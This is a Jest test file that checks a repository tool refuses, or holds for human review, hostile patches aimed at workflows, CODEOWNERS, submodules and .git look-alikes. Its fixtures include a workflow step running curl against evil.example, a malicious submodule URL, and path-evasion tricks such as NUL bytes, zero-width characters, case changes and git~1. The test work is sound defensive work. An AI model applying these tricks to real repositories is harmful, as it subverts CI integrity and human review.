/**
 * Class 4 of issue #10, end to end: a compromised job's patch aims at what steers the repository
 * (workflows, Drover's own config, composite actions, CODEOWNERS, git's own files) in every
 * spelling: the directory itself, a symlink or a deletion at it, other cases, control and
 * invisible characters, `.git` look-alikes. Nothing of it reaches the default branch: workflows
 * and unsafe paths are refused, other protected paths wait for a person, and either way the task
 * or its pull request says why.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  commitOf,
  defaultBranchUntouched,
  nothingWrittenFor,
  remove,
  runHostile,
  toldAbout,
  write,
  type HostileCase,
  type HostileRun,
} from './hostile-world.js';

const WORKFLOW = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil.example" }] } }\n';

/** `refused`: the attempt failed and nothing was written; `person`: a pull request waits for a person. */
type Verdict = 'refused' | 'person';
const cases: Array<HostileCase & { verdict: Verdict; told: string }> = [
  // The directory itself, in every form of change.
  {
    name: 'deletes .github/workflows itself',
    patch: commitOf([remove('.github/workflows')]),
    verdict: 'refused',
    told: 'deletes .github/workflows/drover.yml',
  },
  {
    name: 'a file at .github/workflows',
    patch: commitOf([write('.github/workflows', 'x\n')]),
    verdict: 'refused',
    told: 'deletes .github/workflows/drover.yml',
  },
  {
    name: 'a symlink at .github/workflows',
    patch: commitOf([write('.github/workflows', 'docs', '120000')]),
    verdict: 'refused',
    told: 'deletes .github/workflows/drover.yml',
  },
  {
    name: 'deletes .github',
    patch: commitOf([remove('.github')]),
    verdict: 'refused',
    told: 'deletes .github/workflows/drover.yml',
  },
  {
    name: 'a symlink at .github',
    patch: commitOf([write('.github', 'docs', '120000')]),
    verdict: 'refused',
    told: 'deletes .github/workflows/drover.yml',
  },
  {
    name: 'a workflow',
    patch: commitOf([write('.github/workflows/ci.yml', WORKFLOW)]),
    verdict: 'refused',
    told: 'changes .github/workflows/ci.yml',
  },
  // Other spellings of the same paths.
  {
    name: 'a workflow in another case',
    patch: commitOf([write('.GitHub/Workflows/ci.yml', WORKFLOW)]),
    verdict: 'refused',
    told: 'changes .GitHub/Workflows/ci.yml',
  },
  {
    name: 'a workflow behind a trailing dot',
    patch: commitOf([write('.github/workflows./ci.yml', WORKFLOW)]),
    verdict: 'refused',
    told: 'changes .github/workflows./ci.yml',
  },
  // Control and invisible characters, git's own directory.
  {
    name: 'a newline in a path',
    patch: commitOf([write('notes/a\nb.txt', 'x\n')]),
    verdict: 'refused',
    told: 'contains a control character',
  },
  {
    name: 'a NUL in a path',
    patch: commitOf([write('notes/a\u0000.github/workflows/x.yml', 'x\n')]),
    verdict: 'refused',
    told: 'contains a control character',
  },
  {
    name: 'a zero-width joiner after .git',
    patch: commitOf([write('.git\u200d/hooks/post-checkout', '#!/bin/sh\n')]),
    verdict: 'refused',
    told: 'contains an invisible (format) character',
  },
  {
    name: '.GIT in capitals',
    patch: commitOf([write('.GIT/config', '[core]\n')]),
    verdict: 'refused',
    told: "names git's own metadata directory",
  },
  {
    name: 'git~1 (the 8.3 name of .git)',
    patch: commitOf([write('git~1/config', '[core]\n')]),
    verdict: 'refused',
    told: "names git's own metadata directory",
  },
  // Protected files that are not workflows: written, never merged by Drover.
  {
    name: "Drover's own config",
    patch: commitOf([write('.github/drover.yml', 'allow_workflow_changes: true\n')]),
    verdict: 'person',
    told: '.github/drover.yml',
  },
  {
    name: 'a composite action',
    patch: commitOf([write('.github/actions/setup/action.yml', 'runs: { using: composite, steps: [] }\n')]),
    verdict: 'person',
    told: '.github/actions',
  },
  {
    name: 'CODEOWNERS',
    patch: commitOf([write('.github/CODEOWNERS', '* @outsider\n')]),
    verdict: 'person',
    told: 'CODEOWNERS',
  },
  {
    name: 'CODEOWNERS at the root',
    patch: commitOf([write('CODEOWNERS', '* @outsider\n')]),
    verdict: 'person',
    told: 'CODEOWNERS',
  },
  {
    name: '.gitmodules',
    patch: commitOf([write('.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x\n')]),
    verdict: 'person',
    told: '.gitmodules',
  },
  {
    name: '.gitattributes',
    patch: commitOf([write('.gitattributes', '* filter=evil\n')]),
    verdict: 'person',
    told: '.gitattributes',
  },
];

describe('class 4: protected-path checks by effect', () => {
  let run: HostileRun;

  beforeAll(async () => {
    run = await runHostile(cases, { files: { 'docs/guide.md': '# Guide\n' } });
  }, 150_000);

  afterAll(async () => {
    await run?.world.close();
  });

  it('the healthy task beside the attacks merged', () => {
    expect(run.repo.isClosed(run.healthy)).toBe(true);
  });

  it('nothing of any attack is on the default branch', () => {
    expect(defaultBranchUntouched(run)).toEqual([]);
  });

  it.each(cases)('$name: $verdict, and the user is told why', ({ name, verdict, told }) => {
    const number = run.tasks.get(name) as number;
    expect(run.repo.isClosed(number)).toBe(false);
    const text = toldAbout(run.repo, number);
    expect(text).toContain(told);
    if (verdict === 'refused') {
      expect(text).toContain('The patch was refused');
      expect(nothingWrittenFor(run, number)).toEqual([]);
    } else {
      expect(text).toContain('waits for a person');
      const pulls = run.repo.pulls().filter((pr) => pr.headRef.startsWith(`drover/${number}/`));
      expect(pulls.map((pr) => [run.repo.issue(pr.number).state, pr.merged])).toEqual([['open', false]]);
    }
  });
});
